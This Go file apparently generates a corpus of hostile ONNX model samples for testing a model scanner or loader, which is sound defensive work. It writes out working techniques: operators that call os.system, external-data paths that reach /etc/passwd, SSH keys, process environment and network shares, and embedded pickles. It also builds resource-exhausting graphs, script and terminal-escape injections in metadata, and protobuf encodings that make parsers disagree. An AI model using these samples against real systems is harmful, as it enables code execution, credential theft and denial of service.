package hostile

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"math"
	"slices"
	"strings"
)

// onnxMsg is a message of onnx.proto that is being written.
type onnxMsg []byte

// onnxText adds a field of bytes, onnxNum one of a number; the numbers of fields are those of onnx.proto.
func (m onnxMsg) text(number int, content string) onnxMsg {
	m = binary.AppendUvarint(m, uint64(number)<<3|2)
	m = binary.AppendUvarint(m, uint64(len(content)))
	return append(m, content...)
}
func (m onnxMsg) msg(number int, content onnxMsg) onnxMsg { return m.text(number, string(content)) }
func (m onnxMsg) num(number int, value int64) onnxMsg {
	return binary.AppendUvarint(binary.AppendUvarint(m, uint64(number)<<3), uint64(value))
}
func (m onnxMsg) join(parts ...onnxMsg) onnxMsg { return append(m, slices.Concat(parts...)...) }

// The parts of a model. Each is a field of the message that it belongs to.
func onnxNode(op, domain string, ins, outs []string, attributes ...onnxMsg) onnxMsg {
	var n onnxMsg
	for _, in := range ins {
		n = n.text(1, in)
	}
	for _, out := range outs {
		n = n.text(2, out)
	}
	n = n.text(4, op)
	for _, a := range attributes {
		n = n.msg(5, a)
	}
	if domain != "" {
		n = n.text(7, domain)
	}
	return onnxMsg{}.msg(1, n)
}
func onnxString(name, value string) onnxMsg { return onnxMsg{}.text(1, name).text(4, value).num(20, 3) }
func onnxInt(name string, value int64) onnxMsg {
	return onnxMsg{}.text(1, name).num(3, value).num(20, 2)
}
func onnxBody(name string, graph onnxMsg) onnxMsg {
	return onnxMsg{}.text(1, name).msg(6, graph).num(20, 5)
}

// onnxValue describes an input (11) or an output (12) of a type, with dimensions.
func onnxValue(field int, name string, kind int64, dims ...int64) onnxMsg {
	var shape onnxMsg
	for _, d := range dims {
		shape = shape.msg(1, onnxMsg{}.num(1, d))
	}
	tensor := onnxMsg{}.num(1, kind).msg(2, shape)
	return onnxMsg{}.msg(field, onnxMsg{}.text(1, name).msg(2, onnxMsg{}.msg(1, tensor)))
}

// onnxTensor is an initializer of raw data.
func onnxTensor(name string, kind int64, raw []byte, dims ...int64) onnxMsg {
	return onnxMsg{}.msg(5, onnxRaw(name, kind, raw, dims...))
}
func onnxRaw(name string, kind int64, raw []byte, dims ...int64) onnxMsg {
	var t onnxMsg
	for _, d := range dims {
		t = t.num(1, d)
	}
	return t.num(2, kind).text(8, name).text(9, string(raw))
}

// onnxOutside is an initializer of four floats in another file, by the pairs that describe it.
func onnxOutside(pairs ...string) onnxMsg {
	t := onnxMsg{}.num(1, 4).num(2, 1).text(8, "w")
	for i := 0; i+1 < len(pairs); i += 2 {
		t = t.msg(13, onnxMsg{}.text(1, pairs[i]).text(2, pairs[i+1]))
	}
	return onnxMsg{}.msg(5, t.num(14, 1))
}

// onnxGraph is a graph around its nodes, tensors and values.
func onnxGraph(parts ...onnxMsg) onnxMsg { return slices.Concat(parts...).text2("g") }

// text2 adds the name of a graph.
func (m onnxMsg) text2(name string) onnxMsg { return m.text(2, name) }

// onnxAdd is the usual rest of a graph: y = x + w.
func onnxAdd(parts ...onnxMsg) onnxMsg {
	return onnxGraph(append([]onnxMsg{onnxNode("Add", "", []string{"x", "w"}, []string{"y"})}, append(parts,
		onnxValue(11, "x", 1, 4), onnxValue(12, "y", 1, 4))...)...)
}

// onnxOpset imports a version of a domain.
func onnxOpset(domain string, version int64) onnxMsg {
	return onnxMsg{}.msg(8, onnxMsg{}.text(1, domain).num(2, version))
}

// onnxModel is a model around a graph.
func onnxModel(graph onnxMsg, more ...onnxMsg) []byte {
	return onnxMsg{}.num(1, 8).text(2, "picket").msg(7, graph).join(onnxOpset("", 17)).join(more...)
}

// onnxFunction is a function of the model.
func onnxFunction(domain, name string, nodes ...onnxMsg) onnxMsg {
	f := onnxMsg{}.text(1, name).text(4, "a").text(5, "b")
	for _, n := range nodes {
		f = append(f, n[0]-(1<<3)+(7<<3)) // the same message in field 7
		f = append(f, n[1:]...)
	}
	return onnxMsg{}.msg(25, f.join(onnxMsg{}.msg(9, onnxMsg{}.num(2, 17)), onnxMsg{}.msg(9, onnxMsg{}.text(1, domain).num(2, 1))).text(10, domain))
}

// onnxFile makes a sample.
func onnxFile(group, id, technique string, content []byte) Sample {
	return Sample{Name: "onnx-" + id + ".onnx", Group: "onnx-" + group, Technique: technique, Loader: "onnxruntime", Build: build(content)}
}

// graphSamples are models of graphs: ONNX.
func graphSamples() []Sample {
	return slices.Concat(onnxOperators(), onnxLocations(), onnxTensors(), onnxBombs(), onnxTexts(), onnxEncodings(), ortSamples())
}

// floats4 are four floats.
func floats4(values ...float32) []byte {
	var b []byte
	for _, v := range values {
		b = binary.LittleEndian.AppendUint32(b, math.Float32bits(v))
	}
	return b
}

// onnxInts are numbers of 64 bits.
func onnxInts(values ...int64) []byte {
	var b []byte
	for _, v := range values {
		b = binary.LittleEndian.AppendUint64(b, uint64(v))
	}
	return b
}

// one is the tensor w that nearly all samples have.
func onnxOne() onnxMsg { return onnxTensor("w", 1, floats4(1, 2, 3, 4), 4) }

// onnxOperators call more than arithmetic.
func onnxOperators() []Sample {
	xy := func(op, domain string, attributes ...onnxMsg) onnxMsg {
		return onnxGraph(onnxNode(op, domain, []string{"x"}, []string{"y"}, attributes...), onnxValue(11, "x", 1, 4), onnxValue(12, "y", 1, 4))
	}
	file := func(id, technique string, graph onnxMsg, domain string) Sample {
		return onnxFile("operator", id, technique, onnxModel(graph, onnxOpset(domain, 1)))
	}
	system := []onnxMsg{onnxString("module", "os"), onnxString("class_name", "system"), onnxString("command", "echo "+Marker)}
	inside := onnxGraph(onnxNode("PyOp", "p", []string{"x"}, []string{"z"}, system...), onnxValue(12, "z", 1, 4))
	return []Sample{
		file("pyop", "PyOp of ONNX Runtime imports os and calls system with an argument of the node", xy("PyOp", "pyop", system...), "pyop"),
		file("python-op", "PythonOp of ONNX Runtime's training calls a function by its name", xy("PythonOp", "com.microsoft",
			onnxString("func_name", "os.system")), "com.microsoft"),
		file("pyop-in-branch", "PyOp in the branch of an If", onnxGraph(onnxNode("If", "", []string{"c"}, []string{"y"},
			onnxBody("then_branch", inside), onnxBody("else_branch", inside)), onnxValue(11, "c", 9), onnxValue(11, "x", 1, 4), onnxValue(12, "y", 1, 4)), "p"),
		onnxFile("operator", "pyop-in-function", "PyOp in a function of the model", onnxModel(xy("F", "local"), onnxOpset("local", 1),
			onnxFunction("local", "F", onnxNode("PyOp", "p", []string{"a"}, []string{"b"}, system...)))),
		onnxFile("operator", "pyop-in-training", "PyOp in the graph of a training step", onnxModel(onnxAdd(onnxOne()),
			onnxMsg{}.msg(20, onnxMsg{}.msg(2, inside)))),
		file("python-custom", "a Python function as an operator of onnxruntime-extensions", xy("MyPythonFunction", "ai.onnx.contrib"), "ai.onnx.contrib"),
		file("custom-domain", "an operator of a library that comes with the model", xy("Inject", "com.example.payload"), "com.example.payload"),
		file("custom-standard", "an operator under the domain of the standard that the standard does not have", xy("LoadLibrary", ""), "x"),
		file("lookalike-domain", "a domain that looks like one of Microsoft", xy("Gelu", "com.microsoft."), "com.microsoft."),
		file("aten", "ATen of older exporters calls any function of PyTorch by its name", xy("ATen", "org.pytorch.aten", onnxString("operator", "from_file")), "org.pytorch.aten"),
		file("azure", "AzureTextToText sends the input and a token to an address", xy("AzureTextToText", "com.microsoft.extensions",
			onnxString("model_uri", "http://127.0.0.1:9/"+Marker)), "com.microsoft.extensions"),
		file("openai", "OpenAIAudioToText sends the input to an address", xy("OpenAIAudioToText", "com.microsoft.extensions",
			onnxString("model_uri", "http://127.0.0.1:9/")), "com.microsoft.extensions"),
		file("image-reader", "ImageReader opens files by names that the graph computes", xy("ImageReader", "ai.onnx.contrib"), "ai.onnx.contrib"),
		file("ep-context-bytes", "EPContext with a compiled program", xy("EPContext", "com.microsoft", onnxInt("embed_mode", 1), onnxInt("main_context", 1),
			onnxString("ep_cache_context", "\x7fELF\x02\x01\x01"+strings.Repeat("\x00", 9)+"\x03\x00\x3e\x00\x01\x00\x00\x00"+strings.Repeat("\x00", 200))), "com.microsoft"),
		file("ep-context-unknown", "EPContext with a compiled program of unknown kind", xy("EPContext", "com.microsoft", onnxInt("embed_mode", 1),
			onnxString("ep_cache_context", "OVEP_BIN\x00\x01"+strings.Repeat("\x90\xfe", 100))), "com.microsoft"),
		file("ep-context-path", "EPContext with the path of a file outside of the folder", xy("EPContext", "com.microsoft", onnxInt("embed_mode", 0),
			onnxString("ep_cache_context", "../../../../tmp/evil_ctx.bin")), "com.microsoft"),
		file("plugin-library", "an argument that names a library of native code", xy("Relu", "", onnxString("plugin", "./libpayload.so")), "x"),
		onnxFile("operator", "shadowed-relu", "a function of the model takes the place of Relu", onnxModel(xy("Relu", ""),
			onnxFunction("", "Relu", onnxNode("Neg", "", []string{"a"}, []string{"b"})))),
		onnxFile("operator", "metadata-library", "metadata that names a library of custom operators", onnxModel(onnxAdd(onnxOne()),
			onnxMsg{}.msg(14, onnxMsg{}.text(1, "library").text(2, "custom.dll")))),
	}
}

// onnxLocations take data from elsewhere.
func onnxLocations() []Sample {
	file := func(id, technique string, pairs ...string) Sample {
		return onnxFile("external-data", "external-"+id, technique, onnxModel(onnxAdd(onnxOutside(pairs...))))
	}
	beside := func(s Sample, files map[string][]byte) Sample {
		s.Beside = files
		return s
	}
	attribute := onnxGraph(onnxNode("Constant", "", nil, []string{"y"}, onnxMsg{}.text(1, "value").msg(5,
		onnxMsg{}.num(1, 4).num(2, 1).msg(13, onnxMsg{}.text(1, "location").text(2, "/etc/passwd")).num(14, 1)).num(20, 4)), onnxValue(12, "y", 1, 4))
	weights := map[string][]byte{"w.bin": floats4(1, 2, 3, 4)}
	return []Sample{
		file("parent", "CVE-2022-25882: data from a parent folder", "location", "../../../../../../etc/passwd"),
		file("parent-inside", "CVE-2024-27318: a parent folder behind a folder", "location", "weights/../../../etc/passwd"),
		file("absolute", "CVE-2024-27318: data from an absolute path", "location", "/etc/passwd"),
		file("backslash", "CVE-2025-51480: a parent folder written with backslashes", "location", `..\..\windows\win.ini`),
		file("drive", "data from a drive", "location", `C:\windows\win.ini`),
		file("share", "data from a share on the network, which sends the user's hash there", "location", `\\127.0.0.1\share\w.bin`),
		file("address", "data from an address", "location", "http://127.0.0.1:9/w.bin"),
		file("file-address", "data from an address of a file", "location", "file:///etc/passwd"),
		file("home", "data from the home folder", "location", "~/.ssh/id_rsa"),
		file("proc", "CVE-2026-34447: data from a link into the process", "location", "/proc/self/environ"),
		file("hidden", "data from a file of credentials beside the model", "location", ".env"),
		file("git", "data from the settings of a repository", "location", ".git/config"),
		file("stream", "data from another stream of a file on Windows", "location", "w.bin:hidden"),
		file("nul", "a location with a NUL, which C reads differently", "location", "w.bin\x00/../../etc/passwd"),
		file("basepath", "a base path outside of the folder", "location", "w.bin", "basepath", "/etc"),
		file("memory", "the mark by which ONNX Runtime notes an address in its memory", "location", "*/_ORT_MEM_ADDR_/*", "offset", "4194304", "length", "16"),
		file("memory-native", "the mark for memory in the order of the machine", "location", "*/_ORT_NATIVE_ENDIAN_MEM_ADDR_/*", "offset", "4194304", "length", "16"),
		file("key-class", "CVE-2026-34445: a key that replaces the class of a Python object", "location", "w.bin", "__class__", "x"),
		file("key-dict", "CVE-2026-34445: a key that replaces the attributes of a Python object", "location", "w.bin", "__dict__", "x"),
		file("key-unknown", "CVE-2026-34445: a key of the author's own", "location", "w.bin", "command", "echo "+Marker),
		file("location-twice", "two locations: the first is harmless", "location", "w.bin", "location", "../w.bin"),
		file("offset-twice", "two offsets", "location", "w.bin", "offset", "0", "offset", "4096"),
		file("offset-negative", "a negative offset", "location", "w.bin", "offset", "-16", "length", "16"),
		file("length-huge", "CVE-2026-34445: a length of an exabyte", "location", "w.bin", "length", "1152921504606846976"),
		file("length-text", "a length that is no number", "location", "w.bin", "length", "1e9"),
		file("no-location", "external data without a location", "offset", "0"),
		beside(file("beyond-end", "a range behind the end of the file", "location", "w.bin", "offset", "4096", "length", "16"), weights),
		beside(file("short-file", "a file that is smaller than the tensor", "location", "short.bin"), map[string][]byte{"short.bin": floats4(1)}),
		onnxFile("external-data", "external-attribute", "CVE-2022-25882 in the tensor of a node", onnxModel(attribute)),
		onnxFile("external-data", "external-not-said", "external data of a tensor that does not say so", onnxModel(onnxAdd(onnxMsg{}.msg(5,
			onnxRaw("w", 1, floats4(1, 2, 3, 4), 4).msg(13, onnxMsg{}.text(1, "location").text(2, "../w.bin")))))),
		onnxFile("external-data", "external-and-raw", "a tensor with data in the model and beside it", onnxModel(onnxAdd(onnxMsg{}.msg(5,
			onnxRaw("w", 1, floats4(1, 2, 3, 4), 4).msg(13, onnxMsg{}.text(1, "location").text(2, "w.bin")).num(14, 1))))),
		onnxFile("external-data", "external-sparse", "CVE-2022-25882 in a sparse tensor", onnxModel(onnxAdd(onnxMsg{}.msg(15, onnxMsg{}.msg(1,
			onnxMsg{}.num(1, 4).num(2, 1).text(8, "w").msg(13, onnxMsg{}.text(1, "location").text(2, "../w.bin")).num(14, 1)))))),
	}
}

// onnxTensors lie about what they hold.
func onnxTensors() []Sample {
	file := func(id, technique string, parts ...onnxMsg) Sample {
		return onnxFile("tensor", "tensor-"+id, technique, onnxModel(onnxAdd(parts...)))
	}
	data := floats4(1, 2, 3, 4)
	return []Sample{
		file("long", "more data than the shape needs", onnxTensor("w", 1, append(slices.Clone(data), make([]byte, 4096)...), 4)),
		file("short", "CVE-2024-27319: less data than the shape needs", onnxTensor("w", 1, data, 4096)),
		file("negative", "a negative dimension", onnxTensor("w", 1, data, -4)),
		file("overflow", "dimensions whose product overflows", onnxTensor("w", 1, data, 1<<32, 1<<32, 4)),
		file("huge", "a tensor of 2^50 elements without data", onnxMsg{}.msg(5, onnxMsg{}.num(1, 1<<50).num(2, 1).text(8, "w"))),
		file("type", "a type that does not exist", onnxTensor("w", 99, data, 4)),
		file("two-places", "raw data and typed data", onnxMsg{}.msg(5, onnxRaw("w", 1, data, 4).text(4, string(floats4(9, 9, 9, 9))))),
		file("segment", "a tensor that is a part of another", onnxMsg{}.msg(5, onnxRaw("w", 1, data, 4).msg(3, onnxMsg{}.num(1, 0).num(2, 1)))),
		file("twice", "two tensors of one name", onnxOne(), onnxTensor("w", 1, floats4(9, 9, 9, 9), 4)),
		file("pickle", "a pickle as the data of a tensor", onnxTensor("w", 2, attackPickle(), int64(len(attackPickle())))),
		file("zip", "a file of torch.save as the data of a tensor", onnxTensor("w", 2, archived(torchEntries(attackPickle())),
			int64(len(archived(torchEntries(attackPickle())))))),
		file("elf", "a program as the data of a tensor that nothing uses", onnxOne(), onnxTensor("unused", 2,
			append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 248)...), 256)),
		onnxFile("tensor", "output-twice", "two nodes give one name", onnxModel(onnxAdd(onnxOne(), onnxNode("Neg", "", []string{"x"}, []string{"y"})))),
	}
}

// onnxBombs exhaust what loads them.
func onnxBombs() []Sample {
	file := func(id, technique string, content []byte) Sample {
		return onnxFile("bomb", "bomb-"+id, technique, content)
	}
	made := func(op string, shape onnxMsg, ins ...string) []byte {
		return onnxModel(onnxGraph(onnxNode(op, "", ins, []string{"y"}), shape, onnxValue(11, "x", 1, 1), onnxValue(12, "y", 1)))
	}
	huge := onnxTensor("s", 7, onnxInts(1<<30, 1<<10), 2)
	nested := onnxGraph(onnxNode("Neg", "", []string{"x"}, []string{"z"}), onnxValue(12, "z", 1))
	for range 60 {
		nested = onnxGraph(onnxNode("If", "", []string{"c"}, []string{"z"}, onnxBody("then_branch", nested), onnxBody("else_branch", onnxGraph())), onnxValue(12, "z", 1))
	}
	var laughs []onnxMsg
	for i := range 40 {
		next := fmt.Sprintf("F%d", i+1)
		laughs = append(laughs, onnxFunction("local", fmt.Sprintf("F%d", i), onnxNode(next, "local", []string{"a"}, []string{"c"}),
			onnxNode(next, "local", []string{"c"}, []string{"b"})))
	}
	laughs = append(laughs, onnxFunction("local", "F40", onnxNode("Neg", "", []string{"a"}, []string{"b"})), onnxOpset("local", 1))
	f0 := onnxGraph(onnxNode("F0", "local", []string{"x"}, []string{"y"}), onnxValue(11, "x", 1, 4), onnxValue(12, "y", 1, 4))
	return []Sample{
		file("constant-of-shape", "ConstantOfShape of 2^40 elements", made("ConstantOfShape", huge, "s")),
		file("expand", "Expand to 2^40 elements", made("Expand", huge, "x", "s")),
		file("tile", "Tile of 2^40 repeats", made("Tile", huge, "x", "s")),
		file("range", "Range of 2^60 numbers", onnxModel(onnxGraph(onnxNode("Range", "", []string{"a", "b", "c"}, []string{"y"}),
			onnxTensor("a", 7, onnxInts(0)), onnxTensor("b", 7, onnxInts(1<<60)), onnxTensor("c", 7, onnxInts(1)), onnxValue(12, "y", 7)))),
		file("random", "RandomNormal with a shape of 2^40 elements", onnxModel(onnxGraph(onnxNode("RandomNormal", "", nil, []string{"y"},
			onnxMsg{}.text(1, "shape").num(8, 1<<20).num(8, 1<<20).num(20, 7)), onnxValue(12, "y", 1)))),
		file("constant-node", "ConstantOfShape whose shape is a constant in a node", onnxModel(onnxGraph(onnxNode("Constant", "", nil, []string{"s"},
			onnxMsg{}.text(1, "value").msg(5, onnxRaw("", 7, onnxInts(1<<40), 1)).num(20, 4)), onnxNode("ConstantOfShape", "", []string{"s"}, []string{"y"}), onnxValue(12, "y", 1)))),
		file("nested", "60 graphs in graphs", onnxModel(nested)),
		file("self-call", "a function that calls itself", onnxModel(onnxGraph(onnxNode("F", "local", []string{"x"}, []string{"y"}),
			onnxValue(11, "x", 1, 4), onnxValue(12, "y", 1, 4)), onnxOpset("local", 1), onnxFunction("local", "F", onnxNode("F", "local", []string{"a"}, []string{"b"})))),
		file("laughs", "41 functions, each of which calls the next twice", onnxModel(f0, laughs...)),
	}
}

// onnxTexts carry what acts on who reads them.
func onnxTexts() []Sample {
	file := func(id, technique string, parts ...onnxMsg) Sample {
		return onnxFile("text", "text-"+id, technique, onnxModel(onnxAdd(onnxOne()), parts...))
	}
	meta := func(id, technique, value string) Sample {
		return file(id, technique, onnxMsg{}.msg(14, onnxMsg{}.text(1, "note").text(2, value)))
	}
	words := onnxMsg{}.msg(5, onnxMsg{}.num(1, 1).num(2, 8).text(6, "__import__('os').system('echo "+Marker+"')").text(8, "words"))
	return []Sample{
		meta("pickle", "a pickle as base64 text in the metadata", base64.StdEncoding.EncodeToString(attackPickle())),
		meta("code", "Python source in the metadata, for a program that evaluates it", "__import__('os').system('echo "+Marker+"')"),
		meta("markup", "markup with a script in the metadata, for a page that shows it", "<script>alert('"+Marker+"')</script>"),
		meta("path", "a path that leaves the folder in the metadata", "../../../../etc/passwd"),
		meta("escape", "terminal escapes in the metadata", "\x1b[2J\x1b[31mclean"),
		file("description", "Python source in the description of the model", onnxMsg{}.text(6, "eval(compile('print(1)', 'x', 'exec'))")),
		onnxFile("text", "text-tensor", "Python source in a tensor of text", onnxModel(onnxAdd(onnxOne(), words))),
		onnxFile("text", "text-argument", "Python source in the argument of a node", onnxModel(onnxGraph(onnxNode("Relu", "", []string{"x"}, []string{"y"},
			onnxString("config", "os.system('echo "+Marker+"')")), onnxValue(11, "x", 1, 4), onnxValue(12, "y", 1, 4)))),
		onnxFile("text", "text-node-escape", "terminal escapes in the name of a node", onnxModel(onnxAdd(onnxOne(), onnxMsg{}.msg(1,
			onnxMsg{}.text(1, "x").text(2, "z").text(3, "\x1b]0;title\x07").text(4, "Relu"))))),
		onnxFile("text", "text-binary-argument", "a pickle as the argument of a node", onnxModel(onnxGraph(onnxNode("Relu", "", []string{"x"}, []string{"y"},
			onnxString("state", string(attackPickle()))), onnxValue(11, "x", 1, 4), onnxValue(12, "y", 1, 4)))),
	}
}

// onnxEncodings write the protocol buffer so that readers differ.
func onnxEncodings() []Sample {
	file := func(id, technique string, content []byte) Sample {
		return onnxFile("encoding", "encoding-"+id, technique, content)
	}
	evil := onnxGraph(onnxNode("PyOp", "p", []string{"x"}, []string{"y"}, onnxString("module", "os"), onnxString("class_name", "system"),
		onnxString("command", "echo "+Marker)), onnxValue(11, "x", 1, 4), onnxValue(12, "y", 1, 4))
	honest := onnxModel(onnxAdd(onnxOne()))
	twice := onnxMsg{}.text(1, "x").text(2, "y").text(4, "Relu").text(4, "PyOp").msg(5, onnxString("module", "os"))
	padding := onnxMsg{}
	for range 20000 {
		padding = padding.num(999, 1)
	}
	late := onnxMsg{}
	for range 1100 {
		late = late.text(99, "")
	}
	late = append(late, evil...)
	return []Sample{
		file("as-tensor", "a graph that begins with unknown fields, in a model that is also the data of one tensor",
			onnxMsg{}.num(1, int64(len(late)/16)).num(1, 8).num(2, 7).join(onnxOpset("", 17)).msg(7, late)),
		file("reordered", "the graph before the version, operator sets first", onnxMsg{}.join(onnxOpset("", 17)).msg(7, evil).num(1, 8)),
		file("padded", "80 kB of unknown fields before the version", padding.num(1, 8).msg(7, evil).join(onnxOpset("", 17))),
		file("padded-bytes", "an unknown field of 70 kB before the version", onnxMsg{}.text(900, strings.Repeat("A", 70000)).num(1, 8).msg(7, evil)),
		file("wrong-wire", "a version written as bytes, which readers pass over, comes first", onnxMsg{}.text(1, "SentencePiece").num(1, 8).msg(7, evil)),
		file("two-graphs", "two graphs, which readers merge", append(slices.Clone(honest), onnxMsg{}.msg(7, evil)...)),
		file("no-version", "no version", onnxMsg{}.msg(7, evil)),
		file("operator-twice", "two names of one operator, of which the last counts", onnxModel(onnxGraph(onnxMsg{}.msg(1, twice),
			onnxValue(11, "x", 1, 4), onnxValue(12, "y", 1, 4)))),
		file("hidden-field", "a pickle in a field that the schema does not have", append(slices.Clone(honest), onnxMsg{}.text(777, string(attackPickle()))...)),
		file("withdrawn-field", "a pickle in a withdrawn field of a graph", onnxModel(onnxAdd(onnxOne(), onnxMsg{}.text(3, string(attackPickle()))))),
		file("trailing-zeros", "zeros after the model", append(slices.Clone(honest), make([]byte, 64)...)),
		file("trailing-pickle", "a pickle after the model", append(slices.Clone(honest), attackPickle()...)),
		file("trailing-zip", "a zip archive after the model: the file is both", append(slices.Clone(honest), archived(torchEntries(attackPickle()))...)),
		file("cut", "a model that is cut short", honest[:len(honest)-20]),
		file("length-lie", "a graph that claims 2^40 bytes", append(binary.AppendUvarint([]byte{8, 8, 0x3a}, 1<<40), onnxAdd(onnxOne())...)),
		file("bare-pickle", "a pickle under the name of an ONNX model", attackPickle()),
		file("group", "a group, which readers pass over, hides a graph", append([]byte{8, 8, 0x3b, 0x3c}, onnxMsg{}.msg(7, evil)...)),
	}
}
